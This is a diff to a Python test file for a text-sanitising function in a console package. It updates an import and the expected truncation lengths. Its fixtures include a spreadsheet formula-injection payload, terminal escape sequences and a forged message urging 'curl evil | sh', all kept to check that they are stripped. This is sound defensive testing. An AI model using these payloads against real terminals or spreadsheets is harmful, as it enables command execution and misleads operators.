@@ -10,7 +10,7 @@ import pytest
 
 from multisite.console import text
 from multisite.console.text import objects, parse, quoted, say
-from multisite.federation.text import clean
+from multisite.text import LONGEST, clean
 
 ESCAPED_DATASET = "=cmd|' /C calc'!A0\x1b]0;pwned\x07\x1b[31mFAKE"
 FORGED_ERROR = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl evil | sh"
@@ -60,9 +60,9 @@ def test_no_character_that_steers_a_terminal_is_left() -> None:
 
 
 def test_what_is_absurdly_long_is_shortened_and_says_so() -> None:
-    assert clean("x" * 700) == "x" * 500 + "... (200 more)"
-    assert len(clean("x" * 100_000_000)) < 600
-    assert len(clean("\x1b]" * 10_000_000)) < 600
+    assert clean("x" * 700) == "x" * 386 + "... (314 more)"
+    assert len(clean("x" * 100_000_000)) == LONGEST
+    assert len(clean("\x1b]" * 10_000_000)) <= LONGEST
 
 
 def test_every_string_of_a_containers_answer_is_cleaned_keys_too() -> None:
